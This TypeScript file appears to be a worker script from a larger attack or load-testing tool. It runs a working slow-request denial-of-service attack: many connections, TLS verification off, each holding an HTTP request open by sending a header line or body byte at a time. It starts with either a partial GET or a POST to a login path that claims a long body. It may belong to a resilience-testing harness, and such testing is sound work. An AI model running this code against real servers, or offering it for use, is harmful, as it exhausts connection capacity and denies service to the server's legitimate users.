import {connect} from "node:net";
import {setTimeout as sleep} from "node:timers/promises";
import {connect as connectTls} from "node:tls";
import {Random} from "../random.ts";

/** Keeps many requests unfinished, a line or a byte at a time. Its one argument is JSON, as `attacks/patient.ts` writes it. */
const {address, port, tls, connections, everySeconds, body, seed} = JSON.parse(process.argv[2]) as {
  address: string;
  port: number;
  tls: boolean;
  connections: number;
  everySeconds: number;
  body: boolean;
  seed: number;
};
const random = new Random(seed);

async function hold(): Promise<void> {
  for (;;) {
    await sleep(random.uniform(0, 4000));
    await new Promise<void>((resolve) => {
      const to = {host: address, port};
      const socket = tls ? connectTls({...to, rejectUnauthorized: false}) : connect(to);
      const tell = setInterval(
        () => socket.write(body ? random.word(1) : `X-${random.word(4)}: ${random.word(6)}\r\n`),
        1000 * everySeconds * random.uniform(0.8, 1.2)
      );
      socket.on("error", () => {});
      socket.on("data", () => {});
      socket.once("close", () => {
        clearInterval(tell);
        resolve();
      });
      socket.once(tls ? "secureConnect" : "connect", () =>
        socket.write(
          body
            ? `POST /app/login HTTP/1.1\r\nHost: ${address}\r\nContent-Length: 9000\r\n\r\nuser=`
            : `GET /?${random.word(5)} HTTP/1.1\r\nHost: ${address}\r\nUser-Agent: Mozilla/5.0\r\n`
        )
      );
    });
  }
}

for (let i = 0; i < connections; i++) void hold();
